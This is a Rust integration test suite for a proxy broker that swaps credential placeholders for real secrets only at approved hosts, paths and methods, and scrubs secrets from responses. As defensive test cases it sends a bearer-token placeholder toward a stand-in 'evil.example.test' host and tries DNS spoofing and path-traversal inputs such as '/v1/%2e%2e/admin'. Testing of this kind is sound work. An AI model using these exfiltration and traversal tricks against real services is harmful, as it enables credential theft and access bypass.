//! The broker against real curl in a guest namespace and HTTPS origins in an "internet"
//! namespace (root only; prints SKIP otherwise).

use hutch_testkit::broker_world as support;

use base64::Engine;
use hutch_types::{BrokerDecision, SecretBinding, SecretLocation};
use support::{header_map, TestSecret, World, API_IP, BROKER_IP, BROKER_PORT, EVIL_IP};

const KEY: &str = "sk-real-KEY-7f3a9c1e5b";
const KEY_PH: &str = "hutch_ph_key0123456789abcdefghij";
const TOKEN: &str = "real-TOKEN-d41d8cd98f00b204";
const TOKEN_PH: &str = "hutch_ph_tok0123456789abcdefghij";
const GIT: &str = "ghp_realGIT0e9f8d7c6b5a4";
const GIT_PH: &str = "hutch_ph_git0123456789abcdefghij";
const QUERY: &str = "real+QUERY/5e884898da28";
const QUERY_PH: &str = "hutch_ph_qry0123456789abcdefghij";
const EVIL: &str = "real-EVIL-9a0b1c2d3e4f";
const EVIL_PH: &str = "hutch_ph_evl0123456789abcdefghij";
const REALS: [&str; 5] = [KEY, TOKEN, GIT, QUERY, EVIL];

fn binding(host: &str, at: &str) -> SecretBinding {
    SecretBinding {
        host: host.into(),
        port: 443,
        path: None,
        methods: vec![],
        at: at.parse::<SecretLocation>().unwrap(),
        fetch_only: false,
    }
}

fn secrets() -> Vec<TestSecret> {
    vec![
        TestSecret {
            name: "api-key",
            value: KEY,
            placeholder: KEY_PH,
            bindings: vec![binding("api.example.test", "header:x-api-key")],
        },
        TestSecret {
            name: "token",
            value: TOKEN,
            placeholder: TOKEN_PH,
            bindings: vec![SecretBinding {
                path: Some("/v1/**".into()),
                ..binding("api.example.test", "bearer")
            }],
        },
        TestSecret {
            name: "git",
            value: GIT,
            placeholder: GIT_PH,
            bindings: vec![SecretBinding {
                path: Some("/org/repo.git/**".into()),
                fetch_only: true,
                ..binding("api.example.test", "basic-password")
            }],
        },
        TestSecret {
            name: "query",
            value: QUERY,
            placeholder: QUERY_PH,
            bindings: vec![binding("api.example.test", "query:key")],
        },
        TestSecret {
            name: "evil-own",
            value: EVIL,
            placeholder: EVIL_PH,
            bindings: vec![binding("evil.example.test", "header:x-evil-key")],
        },
    ]
}

const API: &str = "api.example.test:443:203.0.113.10";
const SPOOF: &str = "api.example.test:443:203.0.113.20";
const EVIL_HOST: &str = "evil.example.test:443:203.0.113.20";
const OTHER: &str = "other.example.test:443:203.0.113.30";

/// No response the guest got may hold a real value.
fn assert_clean(what: &str, c: &support::Curl) {
    for real in REALS {
        assert!(
            !c.body.contains(real),
            "{what}: body leaks a value: {}",
            c.body
        );
        let b64 = base64::engine::general_purpose::STANDARD.encode(real);
        assert!(
            !c.body.contains(&b64[..b64.len() - 4]),
            "{what}: base64 leak: {}",
            c.body
        );
    }
}

fn decisions(w: &World, from: usize) -> Vec<(String, BrokerDecision)> {
    w.events_since(from)
        .into_iter()
        .map(|e| (e.secret, e.decision))
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn broker_substitutes_only_at_bindings_and_never_reflects() {
    if !support::can_run("broker_substitutes_only_at_bindings_and_never_reflects") {
        return;
    }
    let w = World::new("t1", secrets()).await;
    let ca = w.sandbox_ca.clone();
    let curl = |args: Vec<String>| {
        let w = &w;
        async move {
            let args: Vec<&str> = args.iter().map(String::as_str).collect();
            w.curl(&args).await
        }
    };
    let v = |a: &[&str]| -> Vec<String> {
        let mut args = vec!["--cacert".to_string(), ca.clone()];
        args.extend(a.iter().map(|s| s.to_string()));
        args
    };

    // Each location: the origin receives the real value, the guest only ever the placeholder.
    let cases: [(&str, Vec<String>, &str, &str); 4] = [
        (
            "header",
            v(&[
                "--resolve",
                API,
                "-H",
                &format!("x-api-key: {KEY_PH}"),
                "https://api.example.test/v1/echo",
            ]),
            "x-api-key",
            KEY,
        ),
        (
            "bearer",
            v(&[
                "--resolve",
                API,
                "-H",
                &format!("Authorization: Bearer {TOKEN_PH}"),
                "https://api.example.test/v1/echo",
            ]),
            "authorization",
            TOKEN,
        ),
        (
            "basic",
            v(&[
                "--resolve",
                API,
                "-u",
                &format!("x-access-token:{GIT_PH}"),
                "https://api.example.test/org/repo.git/info/refs?service=git-upload-pack",
            ]),
            "authorization",
            GIT,
        ),
        (
            "query",
            v(&[
                "--resolve",
                API,
                &format!("https://api.example.test/v1/echo?a=1&key={QUERY_PH}"),
            ]),
            "",
            QUERY,
        ),
    ];
    for (what, args, header, real) in cases {
        let (seen0, ev0) = (w.seen_count(), w.event_count());
        let c = curl(args).await;
        assert_eq!((c.code, c.status), (0, 200), "{what}: {c:?}");
        let seen = w.seen_since(seen0);
        assert_eq!(seen.len(), 1, "{what}");
        let got = match header {
            "" => percent_encoding::percent_decode_str(&seen[0].target)
                .decode_utf8_lossy()
                .into_owned(),
            "authorization" if what == "basic" => {
                let h = header_map(&seen[0])["authorization"].clone();
                let b = base64::engine::general_purpose::STANDARD
                    .decode(h.trim_start_matches("Basic "))
                    .unwrap();
                String::from_utf8(b).unwrap()
            }
            h => header_map(&seen[0])[h].clone(),
        };
        assert!(got.contains(real), "{what}: origin got {got}");
        assert_clean(what, &c);
        let d = decisions(&w, ev0);
        assert!(
            d.iter().any(|(_, d)| *d == BrokerDecision::Substituted),
            "{what}: {d:?}"
        );
        assert!(
            d.iter().any(|(_, d)| *d == BrokerDecision::Scrubbed),
            "{what}: {d:?}"
        );
        let shown = match what {
            "basic" => base64::engine::general_purpose::STANDARD
                .encode(format!("x-access-token:{GIT_PH}"))[..40]
                .to_string(),
            _ => "hutch_ph_".to_string(),
        };
        assert!(
            c.body.contains(&shown),
            "{what}: the echo shows the placeholder: {}",
            c.body
        );
    }

    // A header reflected into an error body and a response header; a gzip answer; HTTP/2.
    let key = format!("x-api-key: {KEY_PH}");
    let c = curl(v(&[
        "-i",
        "--resolve",
        API,
        "-H",
        &key,
        "https://api.example.test/v1/reflect",
    ]))
    .await;
    assert_eq!(c.status, 401, "{c:?}");
    assert!(
        c.body.contains(&format!("invalid x-api-key: {KEY_PH}")),
        "{}",
        c.body
    );
    assert!(
        c.body.contains(&format!("x-invalid-key: {KEY_PH}")),
        "{}",
        c.body
    );
    assert_clean("reflect", &c);
    let seen0 = w.seen_count();
    let c = curl(v(&[
        "--resolve",
        API,
        "-H",
        &key,
        "https://api.example.test/v1/gzip",
    ]))
    .await;
    assert_eq!(c.status, 200, "{c:?}");
    assert!(
        c.body.contains("x-api-key: hutch_ph_key"),
        "gunzipped and scrubbed: {}",
        c.body
    );
    assert_clean("gzip", &c);
    assert!(header_map(&w.seen_since(seen0)[0])["accept-encoding"] == "identity");
    let c = curl(v(&[
        "--http2",
        "--resolve",
        API,
        "-H",
        &key,
        "https://api.example.test/v1/echo",
    ]))
    .await;
    assert_eq!((c.status, c.version.as_str()), (200, "2"), "{c:?}");
    assert_clean("h2", &c);

    // The token's placeholder in Authorization to evil: 403 with a JSON reason, a violation,
    // nothing reaches evil.
    let (seen0, ev0) = (w.seen_count(), w.event_count());
    let c = curl(v(&[
        "--resolve",
        EVIL_HOST,
        "-H",
        &format!("Authorization: Bearer {TOKEN_PH}"),
        "https://evil.example.test/v1/echo",
    ]))
    .await;
    assert_eq!(c.status, 403, "{c:?}");
    let reason: serde_json::Value = serde_json::from_str(&c.body).unwrap();
    assert!(
        reason["error"].as_str().unwrap().contains("not bound"),
        "{reason}"
    );
    assert_eq!(
        decisions(&w, ev0),
        vec![("token".into(), BrokerDecision::Violation)]
    );
    assert_eq!(w.seen_count(), seen0);

    // SNI ≠ Host: 421. DNS spoof (api at evil's address): refused, no value anywhere.
    let c = curl(v(&[
        "--resolve",
        API,
        "-H",
        "Host: evil.example.test",
        "-H",
        &key,
        "https://api.example.test/v1/echo",
    ]))
    .await;
    assert_eq!(c.status, 421, "{c:?}");
    let ev0 = w.event_count();
    let c = curl(v(&[
        "--resolve",
        SPOOF,
        "-H",
        &key,
        "https://api.example.test/v1/echo",
    ]))
    .await;
    assert_eq!(c.status, 403, "{c:?}");
    assert!(c.body.contains("not verified"), "{}", c.body);
    assert_eq!(
        decisions(&w, ev0),
        vec![("api-key".into(), BrokerDecision::Refused)]
    );

    // Path tricks against the token's /v1/** binding: refused, never substituted.
    let bearer = format!("Authorization: Bearer {TOKEN_PH}");
    for path in [
        "/v1/../admin",
        "/v1/%2e%2e/admin",
        "/v1;x/../../admin",
        "//v1/..//admin",
        "/v10/x",
    ] {
        let c = curl(v(&[
            "--path-as-is",
            "--resolve",
            API,
            "-H",
            &bearer,
            &format!("https://api.example.test{path}"),
        ]))
        .await;
        assert_eq!(c.status, 403, "{path}: {c:?}");
    }
    // TRACE: 405. A push through a fetch-only binding: 403, both forms.
    let c = curl(v(&[
        "-X",
        "TRACE",
        "--resolve",
        API,
        "-H",
        &key,
        "https://api.example.test/v1/echo",
    ]))
    .await;
    assert_eq!(c.status, 405, "{c:?}");
    let git = format!("x-access-token:{GIT_PH}");
    for push in [
        vec!["https://api.example.test/org/repo.git/info/refs?service=git-receive-pack"],
        vec![
            "--data-binary",
            "0000",
            "https://api.example.test/org/repo.git/git-receive-pack",
        ],
    ] {
        let mut a = vec!["--resolve", API, "-u", &git];
        a.extend(push);
        let c = curl(v(&a)).await;
        assert_eq!(c.status, 403, "{c:?}");
        assert!(c.body.contains("fetch only"), "{}", c.body);
    }

    // The placeholder in User-Agent or a body: forwarded unchanged, recorded.
    let (seen0, ev0) = (w.seen_count(), w.event_count());
    let c = curl(v(&[
        "--resolve",
        API,
        "-A",
        KEY_PH,
        "--data-binary",
        &format!("quoted {TOKEN_PH}"),
        "https://api.example.test/v1/echo",
    ]))
    .await;
    assert_eq!(c.status, 200, "{c:?}");
    let seen = &w.seen_since(seen0)[0];
    assert_eq!(header_map(seen)["user-agent"], KEY_PH);
    assert_eq!(seen.body, format!("quoted {TOKEN_PH}"));
    let d = decisions(&w, ev0);
    assert!(
        d.contains(&("api-key".into(), BrokerDecision::Forwarded)),
        "{d:?}"
    );
    assert!(
        d.contains(&("token".into(), BrokerDecision::Forwarded)),
        "{d:?}"
    );

    // An unbound host is spliced: the guest sees the origin's own certificate.
    let c = curl(vec![
        "--cacert".into(),
        w.test_root.clone(),
        "--resolve".into(),
        OTHER.into(),
        "https://other.example.test/echo".into(),
    ])
    .await;
    assert_eq!((c.code, c.status), (0, 200), "{c:?}");
    let c = curl(v(&["--resolve", OTHER, "https://other.example.test/echo"])).await;
    assert_eq!(
        c.code, 60,
        "the sandbox CA does not vouch for a spliced host: {c:?}"
    );
    // ...and a bound host is not: the origin's root does not verify the broker's leaf.
    let c = curl(vec![
        "--cacert".into(),
        w.test_root.clone(),
        "--resolve".into(),
        API.into(),
        "https://api.example.test/v1/echo".into(),
    ])
    .await;
    assert_eq!(c.code, 60, "{c:?}");

    // Plain HTTP to a bound host: forwarded without substitution, recorded.
    let (seen0, ev0) = (w.seen_count(), w.event_count());
    let c = curl(vec![
        "-H".into(),
        key.clone(),
        "--resolve".into(),
        format!("api.example.test:80:{API_IP}"),
        "http://api.example.test/v1/echo".into(),
    ])
    .await;
    assert_eq!(c.status, 200, "{c:?}");
    assert_eq!(header_map(&w.seen_since(seen0)[0])["x-api-key"], KEY_PH);
    let e = w.events_since(ev0);
    assert_eq!(e.len(), 1, "{e:?}");
    assert_eq!(e[0].decision, BrokerDecision::Refused);
    assert!(e[0].reason.as_deref().unwrap().contains("plain HTTP"));

    // Explicit CONNECT (a tool with a proxy URL) is brokered the same way.
    let seen0 = w.seen_count();
    let proxy = format!("http://{BROKER_IP}:{BROKER_PORT}");
    let c = curl(v(&[
        "-x",
        &proxy,
        "-H",
        &key,
        "https://api.example.test/v1/echo",
    ]))
    .await;
    assert_eq!(c.status, 200, "{c:?}");
    assert_eq!(header_map(&w.seen_since(seen0)[0])["x-api-key"], KEY);
    assert_clean("connect", &c);
    let c = curl(vec![
        "-x".into(),
        proxy,
        "--cacert".into(),
        w.test_root.clone(),
        "https://other.example.test/echo".into(),
    ])
    .await;
    assert_eq!(c.status, 200, "spliced through CONNECT: {c:?}");

    // The egress policy is asked before anything is dialed: a refused port gets nothing.
    let seen0 = w.seen_count();
    let c = curl(vec![
        "-x".into(),
        format!("http://{BROKER_IP}:{BROKER_PORT}"),
        "--cacert".into(),
        w.test_root.clone(),
        "https://other.example.test:8443/echo".into(),
    ])
    .await;
    assert_ne!(c.code, 0, "{c:?}");
    assert_eq!(w.seen_count(), seen0);

    // Rotation: the same placeholder now carries the new value, live.
    let mut rotated = secrets();
    rotated[0].value = "sk-rotated-VALUE-31337";
    w.broker
        .set_secrets(rotated.into_iter().map(TestSecret::attached).collect());
    let seen0 = w.seen_count();
    let c = curl(v(&[
        "--resolve",
        API,
        "-H",
        &key,
        "https://api.example.test/v1/echo",
    ]))
    .await;
    assert_eq!(c.status, 200, "{c:?}");
    assert_eq!(
        header_map(&w.seen_since(seen0)[0])["x-api-key"],
        "sk-rotated-VALUE-31337"
    );
    assert!(!c.body.contains("sk-rotated"), "{}", c.body);

    // Nothing went to evil's address carrying a value; no event names a value or placeholder.
    for s in w.seen_since(0) {
        if s.local.to_string() == EVIL_IP {
            for real in REALS {
                assert!(!s.all().contains(real), "evil got a value: {}", s.all());
            }
        }
    }
    for e in w.events_since(0) {
        let text = serde_json::to_string(&e).unwrap();
        for secret in REALS
            .iter()
            .chain(&[KEY_PH, TOKEN_PH, GIT_PH, QUERY_PH, EVIL_PH])
        {
            assert!(!text.contains(secret), "event leaks: {text}");
        }
    }
}

/// The payload of the next text or binary message.
async fn next_payload<S>(ws: &mut tokio_tungstenite::WebSocketStream<S>) -> Vec<u8>
where
    S: tokio::io::AsyncRead + tokio::io::AsyncWrite + Unpin,
{
    use futures::StreamExt;
    use tokio_tungstenite::tungstenite::Message;
    match ws.next().await.unwrap().unwrap() {
        Message::Text(t) => t.as_str().as_bytes().to_vec(),
        Message::Binary(b) => b.to_vec(),
        other => panic!("{other:?}"),
    }
}

/// A WebSocket client in the guest namespace (tokio-tungstenite over rustls trusting `root`):
/// upgrades `wss://{host}/v1/ws` at `dst` with `x-api-key: {key}`, then returns the origin's
/// greeting and its echoes of a text message and a 200 KB binary one.
async fn websocket(
    w: &World,
    dst: &str,
    host: &str,
    root: &rustls::pki_types::CertificateDer<'static>,
    key: &str,
    text: &str,
) -> (String, String, Vec<u8>) {
    use futures::SinkExt;
    use tokio_tungstenite::tungstenite::{client::IntoClientRequest, Message};
    let tcp = support::connect_in(&w.guest, dst.parse().unwrap())
        .await
        .unwrap();
    let mut roots = rustls::RootCertStore::empty();
    roots.add(root.clone()).unwrap();
    let cfg = rustls::ClientConfig::builder_with_provider(std::sync::Arc::new(
        rustls::crypto::ring::default_provider(),
    ))
    .with_safe_default_protocol_versions()
    .unwrap()
    .with_root_certificates(roots)
    .with_no_client_auth();
    let tls = tokio_rustls::TlsConnector::from(std::sync::Arc::new(cfg))
        .connect(host.to_string().try_into().unwrap(), tcp)
        .await
        .unwrap();
    let mut req = format!("wss://{host}/v1/ws").into_client_request().unwrap();
    req.headers_mut().insert("x-api-key", key.parse().unwrap());
    let (mut ws, resp) = tokio_tungstenite::client_async(req, tls).await.unwrap();
    assert_eq!(resp.status(), 101);
    let greeting = String::from_utf8(next_payload(&mut ws).await).unwrap();
    ws.send(Message::text(text)).await.unwrap();
    let echo = String::from_utf8(next_payload(&mut ws).await).unwrap();
    let big: Vec<u8> = (0..200_000u32).map(|i| (i % 251) as u8).collect();
    ws.send(Message::binary(big)).await.unwrap();
    let back = next_payload(&mut ws).await;
    ws.close(None).await.unwrap();
    (greeting, echo, back)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn websockets_reach_bound_hosts_scrubbed_and_unbound_hosts_spliced() {
    if !support::can_run("websockets_reach_bound_hosts_scrubbed_and_unbound_hosts_spliced") {
        return;
    }
    let w = World::new("t2", secrets()).await;
    let big: Vec<u8> = (0..200_000u32).map(|i| (i % 251) as u8).collect();
    let text = format!("a message quoting {KEY_PH} goes as it is");

    // A bound host: the upgrade carries the value upstream; the origin's greeting quotes it
    // back and the guest reads the placeholder there; messages go both ways unchanged.
    let (seen0, ev0) = (w.seen_count(), w.event_count());
    let api = format!("{API_IP}:443");
    let (greeting, echo, back) = websocket(
        &w,
        &api,
        "api.example.test",
        &w.sandbox_ca_der,
        KEY_PH,
        &text,
    )
    .await;
    assert_eq!(greeting, format!("x-api-key: {KEY_PH}"));
    assert_eq!(echo, text);
    assert!(back == big, "the binary echo differs");
    let seen = w.seen_since(seen0);
    assert_eq!(seen.len(), 1, "{seen:?}");
    let headers = header_map(&seen[0]);
    assert_eq!(headers["x-api-key"], KEY);
    assert_eq!(headers["upgrade"], "websocket");
    assert!(
        !headers.contains_key("transfer-encoding") && !headers.contains_key("content-length"),
        "an upgrade has no body: {headers:?}"
    );
    let events = w.events_since(ev0);
    assert!(
        events.iter().any(|e| e.decision == BrokerDecision::Scrubbed
            && e.reason.as_deref() == Some("in a WebSocket message")),
        "{events:?}"
    );

    // An unbound host is spliced: its own certificate, no substitution, the echo intact.
    let seen0 = w.seen_count();
    let other = format!("{}:443", support::OTHER_IP);
    let (greeting, echo, back) = websocket(
        &w,
        &other,
        "other.example.test",
        &w.test_root_der,
        KEY_PH,
        &text,
    )
    .await;
    assert_eq!(greeting, format!("x-api-key: {KEY_PH}"));
    assert_eq!(echo, text);
    assert!(back == big, "the binary echo differs");
    assert_eq!(header_map(&w.seen_since(seen0)[0])["x-api-key"], KEY_PH);
}
